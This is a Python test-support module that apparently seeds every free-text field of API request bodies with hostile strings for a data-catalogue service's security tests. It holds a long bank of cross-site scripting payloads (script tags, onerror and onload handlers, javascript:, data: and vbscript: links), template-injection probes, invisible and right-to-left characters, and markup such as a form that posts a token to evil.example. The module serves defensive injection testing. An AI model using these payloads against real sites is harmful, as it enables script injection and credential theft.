"""A bank of hostile texts, and bodies of requests with one in every field that a person or a source fills in freely.

Each text begins with a word of its own, by which it is found again: `Bank.where` says which field bears it.
"""

import itertools
import json
import re
from pathlib import Path

OPENAPI = Path(__file__).resolve().parents[2] / "openapi"
#: What people and sources put into one line: markup, the ends of what it could stand in, templates, what turns writing round,
#: what nobody sees, and letters that are written from right to left.
LINE = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg/onload=alert(3)></title></textarea></bdi> javascript:alert(4) "
    "{{7*7}}${7*7}<%=7*7%> \u202egnp.exe\u2066\u200b\ufeff\u00ad שלום &lt;b&gt;<!--"
)
LONG = "Donaudampfschifffahrtsgesellschaft" * 18
#: What they put where there is room, in markdown.
PROSE = f"""{LINE}

# A heading <script>alert(5)</script>

[a](javascript:alert(6)) [b](JaVaScRiPt:alert(7)) [c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [d](vbscript:alert(8))
[e](javascript&colon;alert(9)) [f](java&#9;script:alert(10)) [g]( &#1;javascript:alert(11)) <javascript:alert(12)> [h][there] [i](//evil.example/i)
[j](https://evil.example/?a=1&b="x "a title\" onmouseover=alert(13) &#x202e;") [k](/logout "&#8203;") [l](mailto:a@evil.example?body=x)
[m](\\\\evil.example\\m) [n](&#x2f;/evil.example/n) ![o](https://evil.example/p.png) ![p](data:image/svg+xml,<svg%20onload=alert(14)>)

[there]: javascript:alert(15)

<svg onload=alert(16)><a xlink:href="javascript:alert(17)">x</a></svg> <a href="https://evil.example" style="position:fixed;inset:0" onclick=alert(18)>y</a>
<iframe srcdoc="<script>alert(19)</script>"></iframe><form action=https://evil.example><input name=token><base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(20)&gt;">

Written as references: a&#x202e;b c&#8203;d e&zwnj;f g&#x2066;h i&#xfeff;j k&shy;l.

|a|<img src=x onerror=alert(21)>|
|-|-|
|{{{{7*7}}}}|`</code></td><script>alert(22)</script>`|

```html
</code></pre><script>alert(23)</script>
```

{LONG}
"""
#: Where an address belongs.
ADDRESSES = ("javascript:alert(24)//", "data:text/html,<script>alert(25)</script>", "https://evil.example/<script>alert(26)</script>")

#: Turned-round writing, what takes no room and what controls a terminal. Some of it is part of how words are written, none of it
#: where these texts have it.
UNSEEN = re.compile(
    "[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\xad\\u034f\\u061c\\u115f\\u1160\\u17b4\\u17b5"
    "\\u180b-\\u180f\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u206f"
    "\\u3164\\ufe00-\\ufe0f\\ufeff\\uffa0\\ufff0-\\ufffb\\U000e0000-\\U000e0fff]"
)
RIGHT_TO_LEFT = re.compile("[\\u0590-\\u05ff]")


def plain(text: str) -> str:
    """Its markup alone."""
    return UNSEEN.sub("", text)


#: What other records are named by, what proves something, and what is no text of anybody's.
_NAMED = {
    "owners", "reviewers", "experts", "domain", "domains", "domainId", "dataProducts", "assets", "tags", "parent", "parents",
    "children", "href", "connection", "connectionConfig", "authenticationMechanism", "password", "confirmPassword", "service",
    "database", "databaseSchema", "classification", "glossary", "botUser", "botName", "dataSourceId", "source", "associatedTags",
    "relatedTerms", "relatedMetrics", "downstreamTasks", "compositeOf", "document", "sourceHash", "dataModel", "policies",
    "referredColumns", "resources", "operations", "condition", "fullyQualifiedName", "owningProjectIdentifier", "identifier",
    "domainIdentifier", "glossaryIdentifier", "clientToken", "formsInput", "formsOutput", "sql", "parameters",
    "typeIdentifier", "joinedWith",
}  # fmt: skip


class Bank:
    def __init__(self):
        self._count = itertools.count(1)
        #: The field that a text was given to, by the word that it begins with.
        self.where: dict[str, str] = {}

    def text(self, where: str, whole: str, most: int | None = None) -> str:
        word = f"mark{next(self._count):03}q"
        self.where[word] = where
        text = f"{word} {whole}"
        return text if most is None else text[:most]

    def line(self, where: str, most: int = 250) -> str:
        return self.text(where, LINE, most)

    def prose(self, where: str, most: int | None = None) -> str:
        return self.text(where, PROSE, most)

    def address(self, where: str) -> str:
        return ADDRESSES[len(self.where) % len(ADDRESSES)] + self.text(where, "")[:-1]


class Filled:
    """A body of a request with a hostile text in each free field of its shape; `given` is what a right one holds at least."""

    def __init__(self, bank: Bank, door: str, shape: str | dict, what: str):
        self.bank, self.what = bank, what
        self.shapes = json.loads((OPENAPI / f"{door}.json").read_text())["components"]["schemas"]
        self.shape = {"$ref": f"#/components/schemas/{shape}"} if isinstance(shape, str) else shape
        self.fields: dict[str, str] = {}

    def body(self, given: dict, only=None) -> dict:
        """The body with all free fields, or with those alone that are named."""
        self.only = only
        return self._value(self.shape, given, "", 0)

    def _resolved(self, schema: dict) -> dict:
        while "$ref" in schema:
            schema = self.shapes[schema["$ref"].rsplit("/", 1)[1]]
        choices = schema.get("anyOf") or schema.get("oneOf")
        if choices and "properties" not in schema:
            known = [self._resolved(one) for one in choices]
            return next((one for one in known if one.get("type") != "null"), schema)
        return schema

    def _value(self, schema: dict, given, path: str, depth: int):
        schema = self._resolved(schema)
        kinds = schema.get("type")
        kind = next((one for one in kinds if one != "null"), None) if isinstance(kinds, list) else kinds
        if "properties" in schema:
            return self._object(schema, given, path, depth)
        if kind == "array":
            if given is not None:
                return [self._value(schema["items"], one, path, depth + 1) if isinstance(one, dict) else one for one in given]
            one = self._value(schema["items"], None, path, depth + 1)
            return None if one is None else [one]
        if kind == "string":
            return self._string(schema, given, path)
        return given

    def _object(self, schema: dict, given, path: str, depth: int):
        known = schema["properties"]
        if given is None and (depth > 4 or {"id", "type"} <= known.keys()):
            return None
        filled = dict(given or {})
        for name, of in known.items():
            # A name that is given was tried already.
            if name in _NAMED or (name in ("name", "question") and not path and name in filled):
                continue
            value = self._value(of, filled.get(name), f"{path}.{name}".lstrip("."), depth + 1)
            if value is not None:
                filled[name] = value
        return filled if filled and set(schema.get("required", [])) <= filled.keys() else given

    def _string(self, schema: dict, given, path: str):
        if "enum" in schema or schema.get("format") in ("uuid", "date", "date-time", "email"):
            return given
        if self.only is not None and path not in self.only:
            return given
        most = schema.get("maxLength")
        if path not in self.fields:
            where = f"{self.what}.{path}"
            if schema.get("format") == "uri" or path.lower().endswith(("url", "image.url")):
                self.fields[path] = self.bank.address(where)
            elif "pattern" in schema and not path.endswith("name") and most != 200 and most != 255:
                return given
            elif most is not None and most <= 500 or path.endswith(("name", "Name")):
                self.fields[path] = self.bank.line(where, min(most or 250, 250))
            else:
                self.fields[path] = self.bank.prose(where, most)
        return self.fields[path]
